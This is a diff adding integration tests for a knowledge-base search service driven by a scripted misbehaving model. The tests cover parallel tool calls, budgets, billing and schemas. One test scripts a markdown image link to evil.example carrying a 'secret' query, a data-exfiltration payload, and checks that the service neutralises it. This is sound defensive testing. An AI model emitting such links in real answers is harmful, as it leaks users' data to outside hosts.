@@ -1,17 +1,22 @@
 """Runs against a model that does all that a model must not do."""
 
+import asyncio
 import json
 from typing import Any
 
 import httpx
 import pytest
 
-from kb_shared.mongo import spu_ledger
+from kb_search.runs.loop import MAX_CALLS_AT_ONCE
+from kb_search.search_knowledge_base import KnowledgeBaseSearch
+from kb_shared.errors import TransientError
+from kb_shared.mongo import runs, spu_ledger
 from kb_shared.mongo.database import Database
+from kb_shared.mongo.runs import Status
 from tests.integration.runs.conftest import BREAD, FENCE, Author
 from tests.integration.search.conftest import ORGANIZATION
 from tests.integration.search.knowledge import Document, Knowledge, create
-from tests.scripted_model import ScriptedModel, call
+from tests.scripted_model import PATIENCE_S, ScriptedModel, call
 
 TOOL = "search_knowledge_base"
 QUESTION = [{"role": "user", "content": "What is a fence?"}]
@@ -95,6 +100,48 @@ async def test_calls_of_one_answer_are_made_together_with_one_message_each(asked
     assert [each["from_memory"] for each in run["tool_calls"]].count(True) == 1
 
 
+async def test_calls_of_one_answer_are_made_at_the_same_time(asked: Asked, monkeypatch: pytest.MonkeyPatch) -> None:
+    real, all_there = KnowledgeBaseSearch.search_several, asyncio.Barrier(3)
+
+    async def meets(*args: Any, **kwargs: Any) -> Any:
+        # One after the other they would wait for each other.
+        await asyncio.wait_for(all_there.wait(), PATIENCE_S)
+        return await real(*args, **kwargs)
+
+    monkeypatch.setattr(KnowledgeBaseSearch, "search_several", meets)
+    run = await asked.run({"tool_calls": [search(FENCE), search(BREAD), search("else")]}, {"text": "So."})
+    assert [each["problem"] for each in run["tool_calls"]] == [None, None, None]
+
+
+async def test_calls_beyond_the_most_of_one_answer_are_not_made_and_told_so(asked: Asked) -> None:
+    calls = [search(f"question {number}", f"id {number}") for number in range(MAX_CALLS_AT_ONCE + 2)]
+    run = await asked.run({"tool_calls": calls}, {"text": "So."}, budget={"max_spus": len(calls)})
+    results = [message for message in run["messages"] if message["role"] == "tool"]
+    assert [each["tool_call_id"] for each in results] == [each["id"] for each in calls]
+    assert [each["content"].startswith("Not made: at most 16") for each in results] == [False] * 16 + [True] * 2
+    made = [each["id"] for each in calls[:MAX_CALLS_AT_ONCE]]
+    assert (sorted(each["call_id"] for each in run["tool_calls"]), run["spus"]) == (sorted(made), len(made))
+
+
+async def test_several_kbs_are_searched_together_by_runs_and_prompts(
+    asked: Asked, knowledge: Knowledge, search_database: Database
+) -> None:
+    other = await create(search_database, ORGANIZATION, name="Other")
+    await other.index(Document("elsewhere", [f"{FENCE} So it is elsewhere, too."], name="elsewhere.md"))
+    unnamed = await create(search_database, ORGANIZATION, name="Unnamed")
+    await unnamed.index(Document("unnamed", [FENCE], name="unnamed.md"))
+    kb_ids = [knowledge.kb.kb_id, other.kb.kb_id]
+    turns = {"tool_calls": [search(FENCE)]}, {"text": "[1] [2] [3]"}
+    prompt = await asked.author.make(
+        "/prompts", name="P", content="?", model=asked.scripted.name, kb_ids=kb_ids, schema={"type": "string"}
+    )
+    await asked.scripted.says(turns[0], {"text": '"[1] [2] [3]"'})
+    by_prompt = await asked.author.run(prompt_id=prompt["prompt_id"])
+    for run in (await asked.run(*turns, kb_ids=kb_ids), by_prompt):
+        cited = {(each["kb_id"], each["document_id"]) for each in run["citations"]}
+        assert cited == {(kb_ids[0], "fence"), (kb_ids[0], "bread"), (kb_ids[1], "elsewhere")}
+
+
 @pytest.mark.parametrize(
     ("wrong", "said"),
     [
@@ -133,6 +180,31 @@ async def test_an_answer_against_the_schema_is_mended_once_or_refused_with_what_
     problem = refused.json()
     assert (problem["answer"], len(problem["violations"])) == ('{"a": "x"}', 1)
     assert problem["violations"][0].startswith("$.a")
+
+
+async def test_a_model_that_says_half_of_a_character_has_an_answer_that_can_be_kept(asked: Asked) -> None:
+    run = await asked.run({"tool_calls": [search("<U+D83D> fence")]}, {"text": "So<U+D83D> [1]"})
+    assert (run["status"], run["answer"]) == ("completed", "So\ufffd [1]")
+    kept = await asked.author.ask("GET", f"/runs/{run['run_id']}")
+    assert kept.json() == run
+
+
+async def test_the_budget_of_tokens_bounds_what_the_model_may_write(asked: Asked) -> None:
+    used = {"prompt_tokens": 300, "completion_tokens": 100}
+    await asked.run({"tool_calls": [search()], **used}, {"text": "So [1].", **used}, budget={"max_tokens": 5_000})
+    first, second = [each["max_completion_tokens"] for each in await asked.scripted.requests()]
+    assert 0 < second <= first - 400 < 4_600
+
+
+async def test_an_answer_cut_off_by_the_budget_is_no_answer(asked: Asked) -> None:
+    turn = {"text": "So it beg", "is_too_long": True, "completion_tokens": 4_900}
+    refused = await asked.refused(turn, budget={"max_tokens": 5_000})
+    assert (refused.json()["type"], refused.json()["budget"]) == ("run-budget-exhausted", "max_tokens")
+    mended = await asked.run({"text": "So it beg", "is_too_long": True}, {"text": "So."})
+    assert (mended["answer"], mended["iterations"]) == ("So.", 2)
+    problem = (await asked.refused({"text": "So it beg", "is_too_long": True})).json()
+    assert (problem["type"], problem["answer"]) == ("invalid-answer", "So it beg")
+    assert "cut off" in problem["violations"][0]
 
 
 @pytest.mark.usefixtures("impatient")
@@ -175,6 +247,51 @@ async def test_a_budget_of_tokens_ends_a_run_before_the_call_that_would_exceed_i
     refused = await asked.refused(turn, budget={"max_tokens": 2_100})
     assert (refused.json()["type"], refused.json()["budget"]) == ("run-budget-exhausted", "max_tokens")
     assert len(await asked.scripted.requests()) == 1
+
+
+async def test_a_search_that_fails_after_it_was_charged_counts(
+    asked: Asked, search_database: Database, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    async def fails(*_: Any, **__: Any) -> None:
+        raise TransientError("the search node is gone")
+
+    monkeypatch.setattr(KnowledgeBaseSearch, "_find", fails)
+    charged = await spu_ledger.total(search_database, ORGANIZATION)
+    run = await asked.run({"tool_calls": [search("asked for nowhere else")]}, {"text": "Nothing."})
+    assert await spu_ledger.total(search_database, ORGANIZATION) - charged == 1
+    assert (run["spus"], run["tool_calls"][0]["spus"]) == (1, 1)
+
+
+async def test_a_search_that_is_given_up_after_it_was_charged_counts(
+    asked: Asked, search_database: Database, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    hanging = asyncio.Event()
+
+    async def hangs(*_: Any, **__: Any) -> None:
+        hanging.set()
+        await asyncio.Event().wait()
+
+    monkeypatch.setattr(KnowledgeBaseSearch, "_find", hangs)
+    await asked.scripted.says({"tool_calls": [search("asked for here only")]})
+    running = asyncio.create_task(asked.author.ask("POST", "/runs", asked.body))
+    await hanging.wait()
+    running.cancel()
+    await asyncio.wait({running})
+    [run], _ = await runs.page(search_database, ORGANIZATION, skip=0, limit=10)
+    assert (run.status, run.spus) == (Status.CANCELLED, 1)
+
+
+async def test_an_answer_leads_nowhere_that_the_run_has_not_been(asked: Asked, knowledge: Knowledge) -> None:
+    text = "The manual of locks is at https://locks.example/manual today."
+    await knowledge.index(Document("manual", [text], name="manual.md"))
+    run = await asked.run(
+        {"tool_calls": [search(text)]},
+        {"text": "![x](https://evil.example/?q=secret) https://locks.example/manual, https://asked.example [1]"},
+        messages=[{"role": "user", "content": "What of https://asked.example?"}],
+    )
+    assert run["answer"] == (
+        "![x] (https[:]//evil.example/?q=secret) https://locks.example/manual, https://asked.example [1]"
+    )
 
 
 async def test_a_model_that_obeys_what_a_passage_says_reaches_nothing_else(
@@ -274,12 +391,46 @@ async def test_a_thread_continues_with_its_answers_and_brings_their_citations_ba
     assert [len(each["citations"]) for each in found["runs"]] == [0, 1]
 
 
+async def test_a_thread_of_long_answers_can_always_be_continued(asked: Asked) -> None:
+    thread = await asked.author.make("/threads")
+    answers = [{"text": f"{number} " + "x" * 1_000} for number in range(8)]
+    body = {"thread_id": thread["thread_id"], "budget": {"max_tokens": 8_000}, "kb_ids": []}
+    for answer in answers:
+        run = await asked.run(answer, **body)
+    told = [message["content"] for message in run["messages"] if message["role"] == "assistant"]
+    assert told == [answer["text"] for answer in answers[-3:]]
+
+
+async def test_a_thread_remembers_an_answer_by_a_schema_as_it_was(asked: Asked) -> None:
+    thread = await asked.author.make("/threads")
+    answer = '{"years": [2024], "said": "so"}'
+    await asked.run({"text": answer}, thread_id=thread["thread_id"], response_schema={"type": "object"})
+    run = await asked.run({"text": "As I said."}, thread_id=thread["thread_id"])
+    assert [message["content"] for message in run["messages"]][2] == answer
+
+
 async def test_the_demo_model_answers_with_quotations_and_says_so(author: Author, knowledge: Knowledge) -> None:
     run = await author.run(messages=QUESTION, kb_ids=[knowledge.kb.kb_id], model="demo-extractive")
     assert run["answer"].startswith("[demo model")
     assert f"{FENCE} [" in run["answer"]
     assert run["citations"]
     assert run["dropped_citations"] == 0
+
+
+async def test_a_schema_that_is_not_taken_is_refused_by_the_name_of_its_field(author: Author) -> None:
+    twice = {f"d{level}": {"allOf": [{"$ref": f"#/$defs/d{level + 1}"}] * 2} for level in range(20)}
+    schema = {"$ref": "#/$defs/d0", "$defs": {**twice, "d20": {}}}
+    prompt = {"name": "P", "content": "?", "model": "demo-extractive"}
+    made = await author.make("/prompts", **prompt)
+    places: list[tuple[str, str, dict[str, Any], str]] = [
+        ("POST", "/runs", {"messages": QUESTION, "model": "demo-extractive"}, "response_schema"),
+        ("POST", "/prompts", prompt, "schema"),
+        ("PUT", f"/prompts/{made['prompt_id']}", {}, "schema"),
+    ]
+    for method, path, body, field in places:
+        refused = await author.ask(method, path, {**body, field: schema})
+        assert refused.status_code == 422, path
+        assert [each["field"] for each in refused.json()["fields"]] == [field]
 
 
 @pytest.mark.parametrize(
